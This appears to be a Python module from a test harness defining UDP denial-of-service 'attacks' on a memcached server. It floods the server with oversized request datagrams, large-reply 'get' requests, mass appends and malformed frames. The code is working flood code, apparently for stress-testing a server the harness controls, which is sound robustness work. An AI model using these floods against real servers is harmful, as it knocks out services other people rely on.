"""Attacks by datagrams of memcached's protocols."""

import contextlib
import itertools
import socket
import struct

from harness.attacks.target import MIB, attack


@attack
def datagrams(target):
    """The longest datagrams, full of requests, as fast as they can be sent."""
    flooder = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flooder.connect((target.host, target.udp_port))
    flooder.setblocking(False)
    datagram = struct.pack(">HHHH", 1, 0, 1, 0) + b"get " + b"k " * 32_000 + b"k\r\n"
    while True:
        with contextlib.suppress(OSError):
            flooder.send(datagram)
        yield


@attack
def datagrams_for_large_values(target):
    """Small datagrams whose replies are as large as they may be."""
    target.store(b"large", b"x" * MIB)
    flooder = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flooder.connect((target.host, target.udp_port))
    flooder.setblocking(False)
    while True:
        with contextlib.suppress(OSError):
            flooder.send(struct.pack(">HHHH", 1, 0, 1, 0) + b"get large\r\n")
        yield


@attack
def datagrams_of_appends(target):
    """As many appends to a long value as a datagram holds."""
    target.store(b"long", b"x" * 900_000)
    return shower(target, [struct.pack(">HHHH", 1, 0, 1, 0) + b"append long 0 0 1 noreply\r\nx\r\n" * 2100])


@attack
def datagrams_of_nothing(target):
    """Empty ones, such as are refused, and such as ask for nothing."""
    frame = struct.pack(">HHHH", 1, 0, 1, 0)
    return shower(target, [b"", frame[:4], frame, struct.pack(">HHHH", 1, 1, 2, 0) + b"get a\r\n"])


def shower(target, datagrams):
    """These, as fast as they can be sent."""
    flooder = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flooder.connect((target.host, target.udp_port))
    return rain(flooder, itertools.cycle(datagrams))


def rain(flooder, datagrams):
    """These by a connected socket."""
    flooder.setblocking(False)
    for datagram in datagrams:
        with contextlib.suppress(OSError):
            flooder.send(datagram)
        yield
